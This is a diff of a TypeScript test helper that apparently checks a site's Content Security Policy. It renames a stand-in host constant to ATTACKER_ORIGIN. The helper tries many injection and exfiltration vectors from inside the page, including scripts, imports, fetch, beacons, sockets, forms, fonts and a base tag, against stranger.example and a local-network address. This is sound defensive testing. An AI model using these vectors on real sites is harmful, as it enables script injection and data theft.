@@ -9,7 +9,7 @@ interface Outcome {
  * requests to other hosts. The function is serialised into the page, so it may use nothing defined outside.
  */
 export async function attackPage(expected: readonly string[]): Promise<Outcome> {
-	const STRANGER = 'http://stranger.example';
+	const ATTACKER_ORIGIN = 'http://stranger.example';
 	const world = globalThis as unknown as Record<string, unknown>;
 	const directives = new Set<string>();
 	const missed = () => expected.filter((each) => !directives.has(each));
@@ -34,9 +34,9 @@ export async function attackPage(expected: readonly string[]): Promise<Outcome> 
 	const attacks: Readonly<Record<string, () => unknown>> = {
 		'inline script': () => make('script', {}, hit('inline script')),
 		'inline module': () => make('script', { type: 'module' }, hit('inline module')),
-		'script element': () => make('script', { src: `${STRANGER}/a.js` }) && false,
+		'script element': () => make('script', { src: `${ATTACKER_ORIGIN}/a.js` }) && false,
 		'script of data': () => make('script', { src: `data:text/javascript,${hit('script of data')}` }) && false,
-		'imported script': () => import(`${STRANGER}/a.js` as string),
+		'imported script': () => import(`${ATTACKER_ORIGIN}/a.js` as string),
 		'imported data': () => import(`data:text/javascript,${hit('imported data')}` as string),
 		'event handler': () => (make('button', { onclick: hit('event handler') }) as HTMLButtonElement).click(),
 		'javascript: link': () =>
@@ -63,28 +63,29 @@ export async function attackPage(expected: readonly string[]): Promise<Outcome> 
 			make('style', {}, '.attacked { color: rgb(1, 2, 3) }');
 			return getComputedStyle(make('p', { class: 'attacked' })).color === 'rgb(1, 2, 3)';
 		},
-		'foreign sheet': () => make('link', { rel: 'stylesheet', href: `${STRANGER}/a.css` }) && false,
-		fetch: () => fetch(`${STRANGER}/`, { mode: 'no-cors' }),
+		'foreign sheet': () => make('link', { rel: 'stylesheet', href: `${ATTACKER_ORIGIN}/a.css` }) && false,
+		fetch: () => fetch(`${ATTACKER_ORIGIN}/`, { mode: 'no-cors' }),
 		'fetch of the local net': () => fetch('http://192.168.0.1/', { mode: 'no-cors' }),
 		socket: () => void new WebSocket('ws://stranger.example/'),
-		beacon: () => navigator.sendBeacon(`${STRANGER}/`, 'x') && false,
-		events: () => void new EventSource(`${STRANGER}/`),
-		image: () => make('img', { src: `${STRANGER}/a.png` }) && false,
-		sound: () => make('audio', { src: `${STRANGER}/a.mp3` }) && false,
-		object: () => make('object', { data: `${STRANGER}/a` }) && false,
-		manifest: () => document.head.append(make('link', { rel: 'manifest', href: `${STRANGER}/a.json` })),
-		font: () => new FontFace('x', `url(${STRANGER}/a.woff2)`).load(),
-		frame: () => make('iframe', { src: `${STRANGER}/` }) && false,
+		beacon: () => navigator.sendBeacon(`${ATTACKER_ORIGIN}/`, 'x') && false,
+		events: () => void new EventSource(`${ATTACKER_ORIGIN}/`),
+		image: () => make('img', { src: `${ATTACKER_ORIGIN}/a.png` }) && false,
+		sound: () => make('audio', { src: `${ATTACKER_ORIGIN}/a.mp3` }) && false,
+		object: () => make('object', { data: `${ATTACKER_ORIGIN}/a` }) && false,
+		manifest: () =>
+			document.head.append(make('link', { rel: 'manifest', href: `${ATTACKER_ORIGIN}/a.json` })),
+		font: () => new FontFace('x', `url(${ATTACKER_ORIGIN}/a.woff2)`).load(),
+		frame: () => make('iframe', { src: `${ATTACKER_ORIGIN}/` }) && false,
 		'frame of its own page': () =>
 			new Promise<boolean>((resolve) => {
 				const frame = make('iframe', { src: '/404' }) as HTMLIFrameElement;
 				frame.addEventListener('load', () => resolve(!!frame.contentDocument?.title));
 			}),
-		form: () => (make('form', { action: `${STRANGER}/`, method: 'post' }) as HTMLFormElement).submit(),
+		form: () => (make('form', { action: `${ATTACKER_ORIGIN}/`, method: 'post' }) as HTMLFormElement).submit(),
 		'form to itself': () => (make('form', { action: '/', method: 'post' }) as HTMLFormElement).submit(),
 		base: () => (
-			document.head.prepend(make('base', { href: `${STRANGER}/` })),
-			document.baseURI.startsWith(STRANGER)
+			document.head.prepend(make('base', { href: `${ATTACKER_ORIGIN}/` })),
+			document.baseURI.startsWith(ATTACKER_ORIGIN)
 		),
 	};
 
